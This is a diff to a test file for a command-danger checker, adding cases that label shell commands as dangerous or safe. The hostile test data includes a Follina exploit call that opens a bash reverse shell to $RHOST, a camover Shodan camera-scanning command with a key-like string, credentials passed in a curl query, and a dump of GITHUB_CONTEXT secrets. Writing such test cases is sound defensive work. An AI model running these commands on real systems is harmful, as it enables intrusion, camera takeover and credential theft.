@@ -3994,6 +3994,15 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['rm -rf $(BUILD_DIR) dist $(TOOLS_DIR)', false],
     ['rm -rf $(INSTALL_PATH)', true, 'outside the workspace'],
     ['rm -rf $BUILD_DIR', true, 'built from a variable'],
+    // Shodan's targets, a password in a URL's query, PHP's extensions and DKMS's signing key for the machine.
+    ['camover -t --shodan PSKINdQe1GyxGgecYz2191H2JoS9qvgD', true, "Shodan's index"],
+    ['curl "http://encoder/get_sys?user=admin&pass=s3cr3t"', true, "URL's query"],
+    ['curl http://localhost:8892/stats?password=YOUR_PASS', false],
+    ['phpenmod gd', true, "changes the machine's"],
+    ['dkms generate_mok', true, "changes the machine's"],
+    ['dkms status', false],
+    ['printf \'%s\' "$GITHUB_CONTEXT" | python -m json.tool', true, 'GITHUB_CONTEXT'],
+    ['cat urllist | unfurl paths', false],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
